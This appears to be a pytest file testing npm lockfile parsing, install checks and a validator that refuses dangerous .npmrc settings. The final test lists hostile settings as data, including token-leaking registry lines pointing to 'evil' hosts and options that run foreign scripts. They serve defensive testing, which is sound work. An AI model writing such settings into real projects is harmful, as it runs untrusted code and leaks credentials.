"""What a lockfile pins and what is installed are compared, and a stranger's npm settings are weighed."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from chainops.project.errors import BadProjectError
from chainops.project.packages import (
    find_package_folder,
    is_installed,
    locked_packages,
    read_json,
    refused_npmrc,
)

LOCK: dict[str, Any] = {
    "lockfileVersion": 3,
    "packages": {
        "": {"name": "x"},
        "packages/own": {"version": "1.0.0"},
        "node_modules/own": {"resolved": "packages/own", "link": True},
        "node_modules/@oz/contracts": {"version": "5.0.0", "integrity": "sha512-a"},
        "node_modules/a/node_modules/b": {"version": "2.0.0", "hasInstallScript": True},
        "node_modules/fsevents": {"version": "1.0.0", "optional": True, "os": ["darwin"]},
    },
}


def write(root: Path, files: dict[str, str]) -> Path:
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    return root


def installed(root: Path, *leave_out: str, **changes: str) -> Path:
    """Make a folder as npm leaves it."""
    packages = {k: dict(v) for k, v in LOCK["packages"].items() if k and k not in leave_out}
    for path in packages:
        (root / path).mkdir(parents=True, exist_ok=True)
    for path, version in changes.items():
        packages[path]["version"] = version
    write(root, {"node_modules/.package-lock.json": json.dumps({"packages": packages})})
    return root


def test_reads_packages_with_scopes_and_nesting_and_without_links() -> None:
    found = locked_packages(LOCK)
    assert [(p.name, p.version) for p in found.values()] == [
        ("@oz/contracts", "5.0.0"),
        ("b", "2.0.0"),
        ("fsevents", "1.0.0"),
    ]
    assert found["node_modules/fsevents"].platform_bound
    assert found["node_modules/a/node_modules/b"].has_install_script


@pytest.mark.parametrize(
    "lock", [{}, {"packages": []}, {"packages": {"node_modules/a": 1}}, {"dependencies": {"a": {}}}]
)
def test_other_shapes_hold_no_packages(lock: dict[str, Any]) -> None:
    assert locked_packages(lock) == {}


def test_what_is_installed_as_locked_is_recognised(tmp_path: Path) -> None:
    assert is_installed(installed(tmp_path, "node_modules/fsevents"), locked_packages(LOCK))
    assert is_installed(installed(tmp_path), locked_packages(LOCK))


def test_a_difference_of_any_kind_is_recognised(tmp_path: Path) -> None:
    locked = locked_packages(LOCK)
    assert not is_installed(tmp_path / "empty", locked)
    assert not is_installed(installed(tmp_path / "other", **{"node_modules/@oz/contracts": "4.9.0"}), locked)
    assert not is_installed(installed(tmp_path / "less", "node_modules/@oz/contracts"), locked)
    more = {**LOCK["packages"]}
    del more["node_modules/@oz/contracts"]
    assert not is_installed(installed(tmp_path / "more"), locked_packages({"packages": more}))
    changed = installed(tmp_path / "changed")
    later = (changed / "node_modules/.package-lock.json").stat().st_mtime + 10
    os.utime(changed / "node_modules/@oz/contracts", (later, later))
    assert not is_installed(changed, locked)
    gone = installed(tmp_path / "gone")
    (gone / "node_modules/@oz/contracts").rmdir()
    assert not is_installed(gone, locked)
    write(tmp_path / "broken", {"node_modules/.package-lock.json": "{"})
    assert not is_installed(tmp_path / "broken", locked)


def test_the_lockfile_of_a_monorepo_is_found_above(tmp_path: Path) -> None:
    root = write(tmp_path, {"package.json": '{"dependencies": {"react": "1"}}', "yarn.lock": ""})
    own = write(tmp_path / "packages/contracts", {"package.json": '{"devDependencies": {"@oz/c": "1"}}'})
    found = find_package_folder(own, root)
    assert found is not None
    assert (found.folder, found.client, found.wanted) == (root, "yarn", ("@oz/c",))


def test_a_project_without_packages_of_its_own_leaves_those_above_alone(tmp_path: Path) -> None:
    root = write(tmp_path, {"package.json": '{"dependencies": {"react": "1"}}', "package-lock.json": "{}"})
    project = root / "contracts"
    project.mkdir()
    assert find_package_folder(project, root) is None
    above = find_package_folder(project, root, reaches_up=True)
    assert above is not None
    assert above.folder == root
    assert find_package_folder(project, project, reaches_up=True) is None


def test_npms_lockfile_is_taken_before_others(tmp_path: Path) -> None:
    found = find_package_folder(
        write(tmp_path, {"package.json": "{}", "yarn.lock": "", "package-lock.json": "{}"}), tmp_path
    )
    assert found is not None
    assert found.client == "npm"


@pytest.mark.parametrize(
    ("text", "line"), [("{\n  x", 2), ("[]", 0), ("\xff", 1), ("[" * 100_000, 0), ('{"a": 1', 1)]
)
def test_a_broken_manifest_is_shown_with_its_line(tmp_path: Path, text: str, line: int) -> None:
    with pytest.raises(BadProjectError) as caught:
        read_json(write(tmp_path, {"package.json": text}) / "package.json")
    assert caught.value.place is not None
    assert caught.value.place.line == line


@pytest.mark.parametrize(
    "text",
    [
        "registry=https://x/\n@scope:registry = https://x/\n# git=evil\n; x\n\nlegacy-peer-deps=true",
        "ignore-scripts=false",
        "node-linker=hoisted\npublic-hoist-pattern[]=*",
    ],
)
def test_harmless_npm_settings_are_taken(text: str) -> None:
    assert refused_npmrc(text) == ()


@pytest.mark.parametrize(
    "text",
    ["git=./evil", "node-options=--require ./x", "script-shell=./x", "//evil/:_authToken=${NPM_TOKEN}",
     "registry=https://evil/${NPM_TOKEN}", "cafile=./x", "proxy=http://evil", "userconfig=./x",
     "prefix=/", "cache=./c"],
)  # fmt: skip
def test_npm_settings_that_run_or_leak_something_are_refused(text: str) -> None:
    assert len(refused_npmrc(f"# first\n{text}\n")) == 1
    assert refused_npmrc(f"# first\n{text}\n")[0][0] == 2
